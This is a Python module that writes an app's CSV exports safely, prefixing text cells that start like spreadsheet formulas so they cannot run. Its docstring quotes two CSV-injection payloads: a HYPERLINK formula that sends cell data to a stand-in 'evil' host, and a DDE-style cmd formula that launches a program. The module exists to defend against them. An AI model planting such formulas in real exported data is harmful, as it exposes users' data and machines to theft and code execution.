"""The CSV files the app writes (a batch's `results.csv`, an evaluation's `runs.csv` and
`summary.csv`): one way to write them, every cell safe to open in a spreadsheet.

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is one a spreadsheet
takes as a formula (OWASP's CSV injection: a prompt-injected answer `=HYPERLINK("http://evil/?"
&A1,"x")` sends the sheet's cells away when clicked; `@SUM(1+1)*cmd|' /C calc'!A0` runs a
program), so it is written with a single quote before it, which makes it text. Only text is
prefixed: a number the app computed (a cost, a count, a score, a time) is written as the number
it is, a negative one too, so its column still sums and sorts; text that merely reads like a
number (an answer `-1` or `+1`) is prefixed like any other text, since text from a model or a
shared file cannot be told from a formula by how it starts. A text cell is also written as the
exports write text (`exports.text`): no lone surrogate, NUL or control character raw.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from pathlib import Path

from rlm_desktop.exports.text import exported_text

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""How a cell a spreadsheet would take as a formula starts (OWASP)."""


def spreadsheet_cell(value: object) -> object:
    """`value` as a CSV cell: a number (or a bool) as it is, None empty, anything else as text
    that no spreadsheet runs (see the module)."""
    if value is None:
        return ""
    if isinstance(value, int | float):
        return value
    text = exported_text(str(value))
    return f"'{text}" if text.startswith(FORMULA_START) else text


def write_csv(path: Path, columns: Sequence[str], rows: Iterable[Sequence[object]]) -> None:
    """A CSV file at `path`: a header of `columns`, then `rows` (cells in the columns' order),
    every cell as `spreadsheet_cell` writes it."""
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow([spreadsheet_cell(column) for column in columns])
        writer.writerows([spreadsheet_cell(cell) for cell in row] for row in rows)
